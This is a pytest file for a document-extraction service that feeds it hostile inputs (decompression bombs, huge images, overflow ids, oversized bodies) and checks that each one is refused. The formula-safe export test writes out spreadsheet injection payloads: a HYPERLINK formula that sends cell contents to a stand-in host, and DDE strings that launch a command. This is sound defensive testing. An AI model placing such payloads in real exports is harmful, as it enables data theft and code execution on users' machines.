"""Hostile and careless input, made in the test: each answers a 4xx with its code (or
succeeds within its budget), nothing stored is lost, and the service stays up."""

from __future__ import annotations

import io
import os
import warnings
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from bench import hostile_inputs as hostile
from extractors.docx_reader import open_docx
from extractors.errors import CorruptFileError, TooLargeError
from service.api.app import create_app
from service.settings import Settings
from tests.conftest import NewDatabase
from tests.service_helpers import authorize, sample, wait_for


@pytest.fixture(scope="module")
def client(
    tmp_path_factory: pytest.TempPathFactory, new_database: NewDatabase
) -> Iterator[TestClient]:
    data_dir = tmp_path_factory.mktemp("hostile")
    settings = Settings(data_dir=data_dir, database_url=new_database(data_dir), job_workers=1)
    with TestClient(create_app(settings)) as client:
        authorize(client)
        yield client


def upload(client: TestClient, data: bytes, name: str) -> tuple[int, dict[str, Any]]:
    response = client.post("/api/v1/documents", files={"file": (name, data)})
    return response.status_code, response.json()


def stored_documents(client: TestClient) -> int:
    total: int = client.get("/api/v1/documents").json()["total"]
    return total


# --- 1. DOCX admission ---------------------------------------------------------------


@pytest.mark.parametrize(
    "make",
    [
        lambda: hostile.docx_image_bomb(300 * 1024**2),
        lambda: hostile.docx_xml_bomb(100 * 1024**2),
    ],
    ids=["image-part-bomb", "document-xml-bomb"],
)
def test_a_docx_that_inflates_past_its_budget_is_refused_before_it_is_inflated(
    client: TestClient, make: Any
) -> None:
    before = stored_documents(client)
    status, body = upload(client, make(), "bomb.docx")
    assert status == 413 and body["error"]["code"] == "too_large"
    assert "inflates" in body["error"]["message"]
    assert stored_documents(client) == before


def test_a_docx_whose_zip_directory_lies_about_sizes_fails_as_corrupt() -> None:
    with pytest.raises(CorruptFileError):
        open_docx(hostile.docx_lying_sizes())


def test_an_honest_docx_inside_the_budget_is_still_read(client: TestClient) -> None:
    data = sample("qd_list_numbered_docx_thoxuan_2020.docx").read_bytes()
    open_docx(data)
    photo = os.urandom(2 * 1024**2)  # incompressible, as a real photo is
    status, _ = upload(client, hostile.docx_with({"word/media/extra.bin": photo}, data), "ok.docx")
    assert status == 201


def test_too_large_is_the_docx_budget_error() -> None:
    with pytest.raises(TooLargeError):
        open_docx(hostile.docx_xml_bomb(40 * 1024**2))


# --- 2, 3. pixel caps ----------------------------------------------------------------


def test_a_png_declaring_more_pixels_than_the_budget_is_refused_at_the_door(
    client: TestClient,
) -> None:
    status, body = upload(client, hostile.png_of_size(9000, 9000), "huge.png")
    assert status == 413 and body["error"]["code"] == "too_large"
    assert "9000 × 9000" in body["error"]["message"]


def test_a_huge_jpeg_is_decoded_smaller_instead_of_refused() -> None:

    from PIL import Image

    from extractors.image_reader import image_page

    buffer = io.BytesIO()
    Image.new("L", (8000, 8000), 255).save(buffer, format="JPEG", quality=50)
    page = image_page(buffer.getvalue(), 1)
    assert page.width * page.height <= 40_000_000


def test_a_pdf_holding_one_huge_image_fails_as_too_large_and_keeps_its_original(
    client: TestClient,
) -> None:
    status, body = upload(client, hostile.pdf_with_image(30000, 30000), "huge-image.pdf")
    assert status == 201
    done = wait_for(client, body["id"])
    assert done["status"] == "failed" and done["error"]["code"] == "too_large"
    assert client.get(f"/api/v1/documents/{body['id']}/original").status_code == 200


def test_a_very_tall_page_is_drawn_within_the_pixel_cap() -> None:
    from extractors.page_view import page_view
    from schemas.document_text import Page, PageSource

    data = hostile.pdf_page_of_size(100, 30000)
    page = Page(number=1, source=PageSource.text_layer, width=100, height=30000)
    image = page_view(data, page)
    assert image.width * image.height <= 16_000_000
    assert abs(image.height / image.width - 300) < 3  # the page's shape is kept


# --- 5. Ids and offsets past the database's integer range -----------------------------

HUGE = str(2**63)


@pytest.mark.parametrize(
    "method,path",
    [
        ("GET", f"/api/v1/documents/{HUGE}"),
        ("GET", f"/api/v1/documents/{HUGE}/original"),
        ("GET", f"/api/v1/documents/{HUGE}/pages"),
        ("GET", f"/api/v1/documents/{HUGE}/pages/1/image"),
        ("GET", f"/api/v1/documents/1/pages/{HUGE}/image"),
        ("GET", f"/api/v1/awards/{HUGE}"),
        ("GET", f"/api/v1/awards/{HUGE}/history"),
        ("GET", f"/api/v1/batches/{HUGE}"),
        ("GET", f"/api/v1/documents?offset={HUGE}"),
        ("GET", f"/api/v1/awards?offset={HUGE}"),
        ("GET", f"/api/v1/awards?document_id={HUGE}"),
    ],
)
def test_an_id_or_offset_past_the_integer_range_is_a_422_not_a_500(
    client: TestClient, method: str, path: str
) -> None:
    response = client.request(method, path)
    assert response.status_code == 422, (path, response.status_code, response.text[:200])
    assert response.json()["error"]["code"] == "invalid_request"
    assert client.get("/api/v1/documents").status_code == 200


# --- 5. A batch ZIP with two members of one name ----------------------------------------


def zip_with_twins(name: str, first: bytes, second: bytes) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is told to write
        archive.writestr(name, first)
        archive.writestr(name, second)
    return buffer.getvalue()


def stored_batch_zips(client: TestClient) -> list[str]:
    archive = client.app.state.archive  # type: ignore[attr-defined]
    return [info.key for info in archive.store.iter("batches/")]


def test_a_batch_zip_with_two_members_of_one_name_is_refused_and_not_kept(
    client: TestClient,
) -> None:
    pdf = sample("qd_inline_dash_textpdf_ninhbinh_2023.pdf").read_bytes()
    twins = zip_with_twins("hồ sơ/qd.pdf", pdf, pdf + b"\n% another version\n")
    before = stored_batch_zips(client)
    answer = client.post("/api/v1/batches", files={"file": ("twins.zip", twins)})
    assert answer.status_code == 422, answer.text
    error = answer.json()["error"]
    assert error["code"] == "duplicate_member" and "hồ sơ/qd.pdf" in error["message"]
    assert stored_batch_zips(client) == before
    assert client.get("/api/v1/documents").status_code == 200


def test_a_batch_zip_whose_batch_row_cannot_be_written_is_not_kept_in_the_store(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    from service import batches
    from service.receive import Spool

    def refused(*_args: Any, **_kwargs: Any) -> int:
        raise RuntimeError("the database went away")

    monkeypatch.setattr(batches, "_record_zip_batch", refused)
    archive = client.app.state.archive  # type: ignore[attr-defined]
    data = zip_of_one()
    before = stored_batch_zips(client)
    with Spool(10**8) as spool:
        spool.write(data)
        with pytest.raises(RuntimeError):
            batches.create_zip_batch(archive, spool, "lost.zip")
    assert stored_batch_zips(client) == before


def zip_of_one() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("một.pdf", sample("qd_inline_dash_textpdf_ninhbinh_2023.pdf").read_bytes())
    return buffer.getvalue()


# --- 8. Corrections bounded ------------------------------------------------------------


@pytest.fixture(scope="module")
def award_row(client: TestClient) -> dict[str, Any]:
    data = sample("qd_inline_dash_textpdf_ninhbinh_2023.pdf").read_bytes()
    status, body = upload(client, data + b"\n% corrections\n", "corrections.pdf")
    assert status == 201
    document = wait_for(client, body["id"])
    assert document["status"] == "done"
    found = client.get("/api/v1/awards", params={"document_id": body["id"]}).json()["items"]
    row: dict[str, Any] = found[0]
    return row


@pytest.mark.parametrize(
    "changes,code",
    [
        ({"amount_vnd": 10**30}, "value_out_of_range"),
        ({"amount_vnd": 2**63}, "value_out_of_range"),
        ({"name": "Nguyễn Thị\x00 Hoa"}, "invalid_character"),
        ({"name": "Nguyễn " + "a" * 1_000_000 + "\x00"}, "value_too_long"),
        ({"unit": "x" * 1001}, "value_too_long"),
        ({"reason": "r" * 5001}, "value_too_long"),
        ({"award_code": "z" * 100_000}, "invalid_correction"),
    ],
    ids=["1e30", "2^63", "nul", "1MB-name", "long-unit", "long-reason", "code"],
)
def test_a_correction_out_of_bounds_is_a_422_and_changes_nothing(
    client: TestClient, award_row: dict[str, Any], changes: dict[str, Any], code: str
) -> None:
    path = f"/api/v1/awards/{award_row['id']}"
    answer = client.patch(path, json=changes)
    assert answer.status_code == 422, answer.text[:300]
    assert answer.json()["error"]["code"] == code
    assert len(answer.text) < 2000  # the value is not echoed back
    assert client.get(path).json()["recipient"] == award_row["recipient"]


def test_a_lone_surrogate_in_a_correction_is_a_422(
    client: TestClient, award_row: dict[str, Any]
) -> None:
    answer = client.patch(  # JSON may escape a lone surrogate; no database stores one
        f"/api/v1/awards/{award_row['id']}",
        content=b'{"position": "Gi\\u00e1o vi\\u00ean \\ud800"}',
        headers={"Content-Type": "application/json"},
    )
    assert answer.status_code == 422, answer.text[:300]
    assert answer.json()["error"]["code"] == "invalid_character"


def test_a_document_correction_out_of_bounds_is_a_422(
    client: TestClient, award_row: dict[str, Any]
) -> None:
    path = f"/api/v1/documents/{award_row['decision']['document_id']}"
    for changes, code in [
        ({"number": "1\x00/QĐ"}, "invalid_character"),
        ({"issuer": "Sở " * 600}, "value_too_long"),
    ]:
        answer = client.patch(path, json=changes)
        assert answer.status_code == 422 and answer.json()["error"]["code"] == code


def test_a_correction_within_bounds_is_kept(client: TestClient, award_row: dict[str, Any]) -> None:
    path = f"/api/v1/awards/{award_row['id']}"
    answer = client.patch(path, json={"amount_vnd": 10**12, "reason": "r" * 5000})
    assert answer.status_code == 200, answer.text[:300]
    assert client.get(path).json()["amount_vnd"] == 10**12


# --- 6. Formula-safe exports ------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "unit": "+1+cmd|' /C calc'!A0",
    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "-2+3",
}


def test_text_that_looks_like_a_formula_is_exported_as_text(
    client: TestClient, award_row: dict[str, Any]
) -> None:
    import csv

    from openpyxl import load_workbook

    answer = client.patch(f"/api/v1/awards/{award_row['id']}", json=FORMULAS)
    assert answer.status_code == 200, answer.text
    params = {"document_id": award_row["decision"]["document_id"]}

    xlsx = client.get("/api/v1/awards/export", params={**params, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    headers = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == award_row["id"])
    cells = {headers[i]: cell for i, cell in enumerate(row)}
    for header, field in [("Họ và tên / Tập thể", "name"), ("Đơn vị", "unit"),
                          ("Chức vụ", "position")]:  # fmt: skip
        assert cells[header].data_type == "s", (field, cells[header].data_type)
        assert cells[header].value == FORMULAS[field]
    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)

    text = client.get("/api/v1/awards/export", params={**params, "format": "csv"}).text
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, rows = lines[0], [r for r in lines[1:] if r[0] == str(award_row["id"])]
    exported = dict(zip(header, rows[0], strict=True))
    assert exported["Họ và tên / Tập thể"] == "'" + FORMULAS["name"]
    assert exported["Đơn vị"] == "'" + FORMULAS["unit"]
    assert exported["Chức vụ"] == "'" + FORMULAS["position"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in lines[1:] for cell in r)

    rows_json = client.get("/api/v1/awards/export", params={**params, "format": "json"}).json()
    assert FORMULAS["name"] in [r["name"] for r in rows_json]  # JSON keeps the value as is


# --- 8. Body size ------------------------------------------------------------------------

BIG_JSON = b'{"name": "' + b"a" * (2 * 1024 * 1024) + b'"}'


def test_a_json_body_over_a_megabyte_is_a_413_before_it_is_parsed(
    client: TestClient, award_row: dict[str, Any]
) -> None:
    path = f"/api/v1/awards/{award_row['id']}"
    declared = client.patch(path, content=BIG_JSON, headers={"Content-Type": "application/json"})
    assert declared.status_code == 413 and declared.json()["error"]["code"] == "body_too_large"

    def chunked() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
        for start in range(0, len(BIG_JSON), 64 * 1024):
            yield BIG_JSON[start : start + 64 * 1024]

    streamed = client.patch(path, content=chunked(), headers={"Content-Type": "application/json"})
    assert streamed.status_code == 413 and streamed.json()["error"]["code"] == "body_too_large"
    assert len(client.get(path).json()["recipient"]["name"]) < 1000  # unchanged, still served


def test_a_big_form_or_multipart_body_off_the_upload_routes_is_a_413(client: TestClient) -> None:
    login = client.post("/login", data={"name": "x", "password": "p" * (2 * 1024 * 1024)})
    assert login.status_code == 413
    multipart = client.post("/api/v1/session", files={"file": ("x.bin", b"\0" * (2 * 1024 * 1024))})
    assert multipart.status_code == 413
    assert multipart.json()["error"]["code"] == "body_too_large"


def test_a_json_body_within_the_limit_is_taken(
    client: TestClient, award_row: dict[str, Any]
) -> None:
    path = f"/api/v1/awards/{award_row['id']}"
    body = b'{"reason": "' + b"r" * 4000 + b'", "pad": "' + b" " * 900_000 + b'"}'
    answer = client.patch(path, content=body, headers={"Content-Type": "application/json"})
    assert answer.status_code == 422  # parsed: `pad` is not a field, said by name
    assert "pad" in answer.json()["error"]["message"]
